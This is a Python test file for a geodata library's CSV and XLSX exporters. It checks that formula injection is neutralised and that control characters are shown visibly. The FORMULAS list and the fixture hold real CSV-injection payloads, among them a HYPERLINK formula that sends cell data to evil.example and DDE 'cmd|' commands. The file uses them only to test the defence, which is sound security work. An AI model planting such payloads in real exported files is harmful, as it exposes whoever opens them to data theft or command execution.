"""Spreadsheet exports: no text is a formula, numbers stay numbers, controls shown, cuts named.

Every path that writes CSV or XLSX is checked with hostile text in the name,
EBE, porteur and sources fields: the library (:func:`geo.write_table`,
:func:`geo.write_synergies`), the command line and the site's ``donnees/``.
XLSX files are read as the XML Excel reads (no ``<f>`` element may appear) and
with openpyxl; CSV files with the csv module (no cell may start a formula).
"""

from __future__ import annotations

import csv
import io
import linecache
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import geo
from geo import cli
from geo.errors import ArgumentError
from geo.publish.site import build_site
from geo.publish.spreadsheet import (
    MAX_XLSX_CELL,
    CellTruncatedWarning,
    safe_text,
    write_spreadsheet,
)

#: Formula payloads seen in CSV-injection reports (DDE, HYPERLINK exfiltration...).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
CONTROL = "Nom\x1b[31m rouge\x07\x0b\x1f"
RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]*)?([eE][+-]?[0-9]+)?")


@pytest.fixture(scope="module")
def hostile():
    """Territories and PTCE of Hauts-de-France whose text fields hold formulas and controls."""
    territories = geo.load_territories()
    ptce = geo.load_ptce()
    territories = territories[territories["region"] == "32"].copy()
    ptce = ptce[ptce["region"] == "32"].copy()
    for frame, fields in ((territories, ("nom", "ebe")), (ptce, ("nom", "porteur"))):
        for i, index in enumerate(frame.index):
            for field in fields:
                frame.loc[index, field] = FORMULAS[(i + len(field)) % len(FORMULAS)]
        frame.loc[frame.index[-1], "nom"] = CONTROL
        frame.loc[frame.index[0], "sources"] = (
            '=HYPERLINK("http://evil.example") | https://ok.example/'
        )
    return territories, ptce


def _xlsx_formulas(path: Path) -> list[str]:
    """The ``<f>`` elements of every sheet, as Excel would read them."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>", book.read(n).decode())]


def _xlsx_texts(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [str(c.value) for row in book.active.iter_rows() for c in row if c.value is not None]


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        text = handle.read()
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _check_csv(path: Path) -> None:
    cells = _csv_cells(path)
    live = [c for c in cells if c.startswith(RISKY) and not NUMBER.fullmatch(c)]
    assert live == [], path
    assert "\x1b" not in path.read_text(encoding="utf-8"), path


def _check_xlsx(path: Path) -> None:
    assert _xlsx_formulas(path) == [], path
    texts = _xlsx_texts(path)
    assert "\x1b" not in "".join(texts), path


def _check(path: Path, expect_control: bool = True) -> None:
    if path.suffix == ".csv":
        _check_csv(path)
        text = path.read_text(encoding="utf-8")
    else:
        _check_xlsx(path)
        text = "\n".join(_xlsx_texts(path))
    # The hostile text is there, as text, with the controls shown.
    assert "HYPERLINK" in text and "cmd|" in text, path
    if expect_control:  # (the site strips the trailing \x0b\x1f as white space)
        assert "Nom\\x1b[31m rouge\\x07" in text, path


# --------------------------------------------------------------------------- the rule


def test_safe_text_owasp_rule():
    for payload in FORMULAS:
        assert safe_text(payload) == "'" + payload
    assert safe_text("-12.5") == "-12.5" and safe_text("+33") == "+33"  # plain numbers
    assert safe_text("- note") == "'- note" and safe_text("Saint-Denis") == "Saint-Denis"
    assert safe_text("a\x1bb\u202ec\td") == "a\\x1bb\\u202ec\td"


def test_xlsx_text_is_string_numbers_are_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "nom": [*FORMULAS, "#N/A"],
            "km": [-2.5, 1.0, 0.0, 3.25, -1e-7, 2.0, 7.0, 8.0, float("nan")],
            "n": list(range(-4, 5)),
            "mix": [-3, 1.5, "=2", None, True, "x", 7, 8, 9],
        }
    )
    path = write_spreadsheet(table, tmp_path / "t.xlsx")
    assert _xlsx_formulas(path) == []
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # The text kept whole (an XML reader reads a carriage return as a newline).
    assert [r[0] for r in rows] == [f.replace("\r", "\n") for f in FORMULAS] + ["#N/A"]
    assert rows[0][1] == -2.5 and rows[4][1] == -1e-7 and rows[8][1] is None
    assert [r[2] for r in rows] == list(range(-4, 5))
    assert [r[3] for r in rows][:5] == [-3, 1.5, "=2", None, True]
    types = {c.coordinate: c.data_type for row in sheet.iter_rows() for c in row}
    assert types["A2"] == "s" and types["B2"] == "n" and types["D2"] == "n"


def test_csv_neutralised_and_numbers_kept(tmp_path):
    table = pd.DataFrame({"nom": FORMULAS, "km": [-2.5, 1.0, 0, 3, 4, 5, 6, -7.5]})
    path = write_spreadsheet(table, tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["nom", "km"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:]] == ["-2.5", "1.0", "0.0", "3.0", "4.0", "5.0", "6.0", "-7.5"]


def test_csv_french_dialect(tmp_path):
    table = pd.DataFrame({"nom": ["Évreux", "=1+1"], "km": [-2.5, 1.25], "n": [1, 2]})
    path = write_spreadsheet(table, tmp_path / "t.csv", dialect="fr")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == "nom;km;n\r\nÉvreux;-2,5;1\r\n'=1+1;1,25;2\r\n"
    with pytest.raises(ArgumentError, match="dialect='de'"):
        write_spreadsheet(table, tmp_path / "u.csv", dialect="de")
    assert not (tmp_path / "u.csv").exists()


def test_control_characters_written_visibly(tmp_path):
    table = pd.DataFrame({"nom\x1b": [CONTROL, "ok\x00\x1f"]})
    for name in ("t.xlsx", "t.csv"):
        path = write_spreadsheet(table, tmp_path / name)  # openpyxl used to raise here
        text = "\n".join(_xlsx_texts(path)) if name.endswith("xlsx") else path.read_text("utf-8")
        assert "Nom\\x1b[31m rouge\\x07\\x0b\\x1f" in text and "ok\\x00\\x1f" in text
        assert "nom\\x1b" in text and "\x1b" not in text


def test_cut_cell_names_file_row_and_column(tmp_path):
    table = pd.DataFrame({"id": ["a", "b", "c"], "notes": ["court", "x" * 40_000, "y"]})
    with pytest.warns(CellTruncatedWarning) as record:
        path = write_spreadsheet(table, tmp_path / "long.xlsx")
    message = str(record[0].message)
    assert "long.xlsx" in message and "row 3 column 'notes' (40,000 characters)" in message
    assert record[0].filename == __file__  # the caller's line, not one inside geo
    assert "write_spreadsheet(" in linecache.getline(__file__, record[0].lineno)
    cell = openpyxl.load_workbook(path).active["B3"].value
    assert len(cell) == MAX_XLSX_CELL
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        csv_path = write_spreadsheet(table, tmp_path / "long.csv")  # no cut in CSV
    assert "x" * 40_000 in csv_path.read_text(encoding="utf-8")


# --------------------------------------------------------------------------- every path


def test_library_exports(hostile, tmp_path):
    territories, ptce = hostile
    table = geo.synergies(territories, ptce, radius_km=30)
    assert len(table) >= 5
    for name in ("s.csv", "s.xlsx"):
        _check(geo.write_synergies(table, tmp_path / name), expect_control=False)
    opportunities = geo.opportunities(territories, ptce, table, radius_km=30)
    for name in ("o.csv", "o.xlsx"):
        _check(geo.write_table(opportunities, tmp_path / name), expect_control=False)
    raw = territories.drop(columns="geometry")
    for name in ("t.csv", "t.xlsx"):
        _check(geo.write_table(raw, tmp_path / name))


def test_cli_exports(hostile, tmp_path, capsys):
    territories, ptce = hostile
    t_path, p_path = tmp_path / "t.geojson", tmp_path / "p.geojson"
    territories.to_file(t_path, driver="GeoJSON")
    ptce.to_file(p_path, driver="GeoJSON")
    inputs = ["--territories", str(t_path), "--ptce", str(p_path), "--radius-km", "30"]
    outputs = []
    for command, name in (
        ("synergies", "s.xlsx"),
        ("synergies", "s.csv"),
        ("opportunities", "o.xlsx"),
        ("opportunities", "o.csv"),
    ):
        out = tmp_path / name
        assert cli.main([command, *inputs, "--out", str(out)]) == 0
        outputs.append(out)
    capsys.readouterr()
    texts = []
    for out in outputs:
        _check(out, expect_control=False)
        texts.append(
            out.read_text("utf-8") if out.suffix == ".csv" else "\n".join(_xlsx_texts(out))
        )
    joined = "\n".join(texts)
    assert "HYPERLINK" in joined and "\\x1b[31m" in joined


def test_site_downloads(hostile, tmp_path):
    territories, ptce = hostile
    build_site(tmp_path, territories=territories, ptce=ptce, tiles=False)
    files = sorted((tmp_path / "donnees").glob("*.csv")) + sorted(
        (tmp_path / "donnees").glob("*.xlsx")
    )
    assert {p.name for p in files} >= {
        "territoires.csv",
        "ptce.csv",
        "synergies.csv",
        "synergies.xlsx",
        "opportunites.xlsx",
        "opportunites-ptce.xlsx",
    }
    for path in files:
        if path.name == "evolution.csv":  # counts per year only: no text from data
            _check_csv(path)
            continue
        _check(path, expect_control=path.stem in ("territoires", "ptce"))
    ptce_cells = _csv_cells(tmp_path / "donnees" / "ptce.csv")
    assert "'=cmd|' /C calc'!A0" in ptce_cells or "'+cmd|' /C calc'!A0" in ptce_cells
